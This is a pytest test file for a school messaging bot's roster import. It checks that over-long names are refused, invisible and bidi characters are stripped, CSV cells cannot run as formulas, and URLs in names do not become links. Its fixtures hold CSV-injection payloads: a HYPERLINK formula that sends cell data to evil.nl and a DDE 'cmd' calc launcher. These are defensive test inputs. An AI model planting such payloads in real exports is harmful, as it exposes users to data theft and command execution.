"""Roster values that cannot hurt: a name too long for a message is refused at its file, line
and column; invisible and bidi characters are taken out at the import, so no message, CSV
file or letter has them; no CSV cell runs as a spreadsheet formula; and nothing in a name
becomes a link, a mention or a command in a message from the school."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from bot.cli import main
from bot.rules.edexml import parse_edexml
from bot.rules.models import PersonKind
from bot.rules.roster_sheet import parse_pupils
from bot.services.invitations import CODE_ALPHABET, deep_link
from bot.services.roster_import import import_pupils
from tests.autolinks import links, visible
from tests.harness import EXAMPLES, Harness
from tests.pdf_reading import raw_text
from tests.places import Place
from tests.test_care import people
from tests.test_roster_upload import admin_of, parnassys_export, pupil_ids, send

EDEX = (Path(__file__).resolve().parent / "data" / "edex.xml").read_text(encoding="utf-8")
LONG = "A" * 10_000
RLO, ZWSP, WJ, BOM, LRM = "\u202e", "\u200b", "\u2060", "\ufeff", "\u200e"
INVISIBLE = re.compile("[\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")
CODE = re.compile(f"[{CODE_ALPHABET}]{{20}}")


@pytest.fixture
def school(place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The example school in a fresh database (`place`, on each backend), with a name and the
    bot's username; its files go in the folder returned."""
    config = tmp_path / "samen.toml"
    config.write_text('[school]\nname = "De Brug"\nbot_username = "debrug_samen_bot"\n')
    monkeypatch.setenv("SAMEN_CONFIG", str(config))
    monkeypatch.delenv("TELEGRAM_BOT_TOKEN", raising=False)
    for what in ("staff", "pupils", "guardians"):
        assert main(["import", what, str(EXAMPLES / f"{what}.csv")]) == 0
    return tmp_path


def with_names(file: str, names: dict[str, tuple[str, str]]) -> str:
    """An example file with other first and last names for some ids (first column)."""
    lines = (EXAMPLES / file).read_text(encoding="utf-8").splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        cells = next(csv.reader([line]))
        if cells[0] in names:
            at = 2 if file == "guardians.csv" else 1
            cells[at], cells[at + 1] = names[cells[0]]
        out.append(_csv_line(cells))
    return "\n".join(out) + "\n"


def _csv_line(cells: list[str]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue()


# --- length ---------------------------------------------------------------------------------


def test_a_10000_character_name_is_refused_at_its_line_and_column_and_nothing_is_imported(
    place: Place,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.delenv("SAMEN_CONFIG", raising=False)
    assert main(["import", "staff", str(EXAMPLES / "staff.csv")]) == 0
    path = tmp_path / "pupils.csv"
    path.write_text(with_names("pupils.csv", {"P004": ("Sem", LONG)}), encoding="utf-8")
    capsys.readouterr()
    assert main(["import", "pupils", str(path)]) == 1
    err = capsys.readouterr().err
    # P004 is on line 5; last_name is the third column.
    assert f"{path}:5:3: column 'last_name': too long: 10000 characters, at most 100" in err
    assert "1 problem in" in err and LONG not in err
    assert place.value("SELECT count(*) FROM pupils") == 0


def test_every_column_has_its_limit_and_a_limit_long_name_is_fine() -> None:
    at_limit = "Ä" * 100
    text = (
        "pupil_id,first_name,last_name,birth_date,group\n"
        f"P1,{at_limit},Vries,2015-01-01,SO-Zon\n"
        f"{'9' * 65},Ada,Vries,2015-01-01,SO-Zon\n"
        f"P3,Ada,Vries,2015-01-01,{'G' * 41}\n"
    )
    parsed = parse_pupils(text.encode(), "p.csv", date(2026, 11, 30))
    assert [(e.line, e.column, e.values["limit"]) for e in parsed.errors] == [
        (3, 1, 64),
        (4, 5, 40),
    ]
    assert [p.first_name for p in parsed.records] == [at_limit]


def test_a_long_name_in_an_edex_file_is_refused_at_its_element() -> None:
    broken = EDEX.replace("<achternaam>Kaya</achternaam>", f"<achternaam>{LONG}</achternaam>")
    roster = parse_edexml(broken.encode(), "edex.xml", date(2026, 11, 30))
    line = broken[: broken.index(LONG)].count("\n") + 1
    assert [(e.line, e.problem) for e in roster.errors] == [
        (line, "<achternaam> is too long: 10000 characters, at most 100")
    ]
    assert roster.errors[0].column == 4  # the start tag, after three tabs
    assert all(p.last_name != LONG for p in roster.pupils)


async def test_a_long_name_sent_in_the_chat_is_named_and_nothing_is_imported(
    harness: Harness,
) -> None:
    admin = await admin_of(harness)
    before = await pupil_ids(harness)
    await send(
        harness, admin, parnassys_export(extra=f"P026;{LONG};;Meer;3-2-2019;SO-Zon;V"), "l.csv"
    )
    shown = admin.last.text
    assert "Regel 28, Roepnaam: te lang: 10000 tekens, hoogstens 100" in shown
    assert len(shown) < 1000 and "✅" not in " ".join(admin.last.labels)
    assert await pupil_ids(harness) == before


# --- invisible characters ---------------------------------------------------------------------


def test_bidi_and_zero_width_characters_reach_no_database_csv_or_letter(
    school: Path, place: Place
) -> None:
    hostile = (f"Lin{RLO}da{ZWSP}", f"de{WJ} Vr{BOM}ies{LRM}")
    path = school / "guardians.csv"
    path.write_text(with_names("guardians.csv", {"G002": hostile}), encoding="utf-8")
    assert main(["import", "guardians", str(path)]) == 0
    letters, table = school / "letters.pdf", school / "invites.csv"
    assert (
        main(["invites", "--person", "G002", "--csv", str(table), "--letters", str(letters)]) == 0
    )
    stored = place.value(
        "SELECT first_name || ' ' || last_name FROM guardians WHERE guardian_id = 'G002'"
    )
    # A Dutch letter: pdftotext adds no bidi marks of its own.
    outputs = {
        "database": stored,
        "invites.csv": table.read_text("utf-8"),
        "letter": raw_text(letters),
    }
    clean = {w: "Linda de Vries" in t and not INVISIBLE.search(t) for w, t in outputs.items()}
    assert clean == dict.fromkeys(outputs, True)


async def test_invisible_characters_in_a_name_reach_no_message(harness: Harness) -> None:
    assert harness.db is not None
    pupils = with_names("pupils.csv", {"P001": (f"Da{ZWSP}a{RLO}n{WJ}", "de Vries")})
    now = harness.clock.now()
    await import_pupils(harness.db, pupils.encode(), "pupils.csv", now, now.date())
    father = (await people(harness, (PersonKind.GUARDIAN, "G001", "Jeroen")))["G001"]
    welcome = father.messages[0]
    assert "Daan" in welcome.text
    assert not INVISIBLE.search(welcome.html)


# --- spreadsheets -----------------------------------------------------------------------------


FORMULAS = {
    "G001": ('=HYPERLINK("http://evil.nl/?"&A1;"klik")', "Vries"),
    "G002": ("+cmd|' /C calc'!A0", "Vries"),
    "G003": ("@SUM(1+1)", "-2+3"),
    "G004": ("Ali", "Bakr;=1+1"),
}


def test_formulas_in_names_are_neutralised_in_invites_csv_and_codes_stay_intact(
    school: Path,
) -> None:
    path = school / "guardians.csv"
    path.write_text(with_names("guardians.csv", FORMULAS), encoding="utf-8")
    assert main(["import", "guardians", str(path)]) == 0
    table = school / "invites.csv"
    assert main(["invites", "--csv", str(table)]) == 0
    with table.open(encoding="utf-8") as handle:
        written = {r["person_id"]: r for r in csv.DictReader(handle)}
    assert written["G001"]["name"] == '\'=HYPERLINK("http://evil.nl/?"&A1;"klik") Vries'
    assert written["G002"]["name"] == "'+cmd|' /C calc'!A0 Vries"
    assert written["G003"]["name"] == "'@SUM(1+1) -2+3"
    assert written["G004"]["name"] == "Ali Bakr;'=1+1"
    for row in written.values():
        for cell in row.values():
            assert not re.match(r"""[ "]*[=+\-@\t\r]""", cell), row
            for part in re.split(r"[;\n]", cell)[1:]:
                assert not re.match(r"""[ "]*[=+\-@\t\r]""", part), row
        assert CODE.fullmatch(row["code"]), row
        assert row["link"] == deep_link("debrug_samen_bot", row["code"])


def test_the_audit_csv_neutralises_its_cells_too(school: Path) -> None:
    text = (
        (EXAMPLES / "guardians.csv")
        .read_text(encoding="utf-8")
        .replace("language\n", "language,information_request\n", 1)
    )
    lines = text.splitlines()
    body = [lines[0], *(f"{line}," for line in lines[1:]), "@G99,P001,Jan,Smit,father,no,nl,yes"]
    path = school / "guardians.csv"
    path.write_text("\n".join(body) + "\n", encoding="utf-8")
    assert main(["import", "guardians", str(path)]) == 0
    table = school / "audit.csv"
    assert main(["audit", "P001", "--csv", str(table)]) == 0
    with table.open(encoding="utf-8") as handle:
        entries = list(csv.DictReader(handle))
    assert [e["subject_id"] for e in entries if e["action"] == "link_facts_imported"] == ["'@G99"]


# --- links --------------------------------------------------------------------------------------


async def test_a_url_in_a_name_is_no_link_in_a_message_from_school(harness: Harness) -> None:
    assert harness.db is not None
    hostile = "Bo https://evil.nl/login @evil_admin #winactie"
    pupils = with_names("pupils.csv", {"P001": (hostile, "de Vries")})
    now = harness.clock.now()
    await import_pupils(harness.db, pupils.encode(), "pupils.csv", now, now.date())
    father = (await people(harness, (PersonKind.GUARDIAN, "G001", "Jeroen")))["G001"]
    welcome = father.messages[0]
    assert hostile in visible(welcome.text)  # the child's name, as the school wrote it
    assert links(welcome.text) == []
